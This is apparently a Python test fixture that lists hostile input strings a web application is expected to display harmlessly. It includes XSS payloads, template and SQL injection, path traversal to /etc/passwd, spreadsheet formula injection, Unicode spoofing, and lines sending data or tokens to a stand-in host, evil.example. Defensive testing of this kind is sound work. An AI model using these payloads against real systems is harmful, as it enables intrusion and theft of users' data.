"""Texts that somebody may have put into the log, a form or an address, each to be shown as it is and to do nothing.

What runs would set `window.hacked`, open a dialog, or ask for something the content security policy forbids.
"""

# ruff: noqa: RUF001

from __future__ import annotations

from collections.abc import Mapping

HOSTILE_TEXTS: Mapping[str, str] = {
    # markup that runs
    "script": "<script>window.hacked=1</script>",
    "script after closing": "</script><script>window.hacked=1</script>",
    "script in upper case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script split by a slash": "<script/x>window.hacked=1</script>",
    "image": "<img src=x onerror=window.hacked=1>",
    "image after a quote": '"><img src=x onerror=window.hacked=1>',
    "image after an apostrophe": "'><img src=x onerror=window.hacked=1>",
    "svg": "<svg onload=window.hacked=1>",
    "svg with a script": "<svg><script href=data:,window.hacked=1 /></svg>",
    "svg animation": "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    "frame": "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "style": "<style>*{display:none}</style>",
    "base": "<base href=//evil.example/>",
    "refresh": '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "form": '<form action=//evil.example/><button name="csrf_token">Continue</button>',
    "comment": "<!-- --!><img src=x onerror=window.hacked=1> -->",
    "end of every element": "</title></textarea></style></noscript></template></table></main></body>",
    "half a tag": "<a href='",
    "entities": "&lt;img src=x onerror=window.hacked=1&gt; &amp;amp; &#60;b&#62; &copy &notit;",
    # attributes
    "event attribute": '" onmouseover=window.hacked=1 x="',
    "event attribute in apostrophes": "' autofocus onfocus=window.hacked=1 x='",
    "event attribute without quotes": "x onfocus=window.hacked=1 autofocus",
    "style attribute": '" style="position:fixed;inset:0;background:red',
    "backtick": "`onmouseover=window.hacked=1`",
    # templates
    "jinja expression": "{{ 7*7 }}{{ config.SECRET_KEY }}",
    "jinja statement": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "jinja comment": "{# gone #}{% raw %}{% endraw %}",
    "htmx attribute": '" hx-get="/audit" hx-trigger="load" hx-target="body',
    "htmx element": "<div hx-post=/projections/pause hx-trigger=load>",
    "htmx partial": '<hx-partial hx-target="#toasts"><b>hacked</b></hx-partial>',
    "htmx values": "js:{hacked: window.hacked=1}",
    "angular": "{{constructor.constructor('window.hacked=1')()}}",
    "format string": "{0.__class__.__init__.__globals__} %s %(name)s %n ${7*7} #{7*7}",
    # addresses and paths
    "javascript address": "javascript:window.hacked=1",
    "javascript address in disguise": " java\tscript:window.hacked=1",
    "data address": "data:text/html,<script>window.hacked=1</script>",
    "other site": "//evil.example/%2e%2e",
    "other site by backslash": "/\\evil.example",
    "credentials in an address": "https://user:secret@evil.example:99999/#?&=",
    "path upwards": "../../../../etc/passwd",
    "path upwards in percent": "..%2f..%2f%00%252e%252e%252f",
    "dots": "..",
    "slashes and tildes": "a/b//c/~0~1~~/",
    "query": "?type=x&type=y#fragment;a=b",
    "windows path": "C:\\CON\\..\\NUL",
    # databases and spreadsheets
    "sql": "'; DROP TABLE events; -- \" OR 1=1",
    "like pattern": "%_\\%[a-z]*?",
    "formula": '=HYPERLINK("http://evil.example?"&A1,"see")',
    "formula by command": "@SUM(1+9)*cmd|' /C calc'!A0",
    "formula by minus": "-2+3+cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula in full width": "\uff1dSUM(1\uff0b1)",
    "csv": 'a,"b\r\nc";d',
    # characters
    "nothing but spaces": "   ",
    "line breaks": "first\nsecond\r\nthird\u2028fourth\u2029fifth\x85sixth",
    "control characters": "bell\x07 escape\x1b[31mred\x1b[0m delete\x7f backspace\x08\x08\x08",
    "nul": "before\0after",
    "override": "user_\u202egnp.exe\u202c",
    "override left open": "pay \u202e\u2066\u2067 00.1 to",
    "isolates left open": "\u2068\u2069\u2069\u2067abc",
    "invisible": "in\u200bvis\u200dib\ufeffle\u00ad\u2060",
    "lone surrogate": "half \ud800 of a pair \udfff",
    "not a character": "\ufffe\uffff\U0010ffff\ufffd",
    "marks": "Z\u0351\u036b\u0343\u036a\u0302" * 12,
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈👍🏽🇺🇳" * 4,
    "right to left": "مرحبا بالعالم (שלום) 123",
    "look-alikes": "аdmin Ⅷ ﬁ ｓｃｒｉｐｔ＞ ﹤script﹥",
    # lengths
    "one long word": "W" * 900,
    "long word of wide marks": "\u0b95\u0bcc" * 200,
    "wide marks without a letter": "\u0bcc" * 400,
    "long in many lines": "line\n" * 300,
    "empty": "",
}


def storable(text: str) -> bool:
    """Whether every database can keep it as a text: not with NUL, nor with half a surrogate pair."""
    return "\0" not in text and not any("\ud800" <= character <= "\udfff" for character in text)
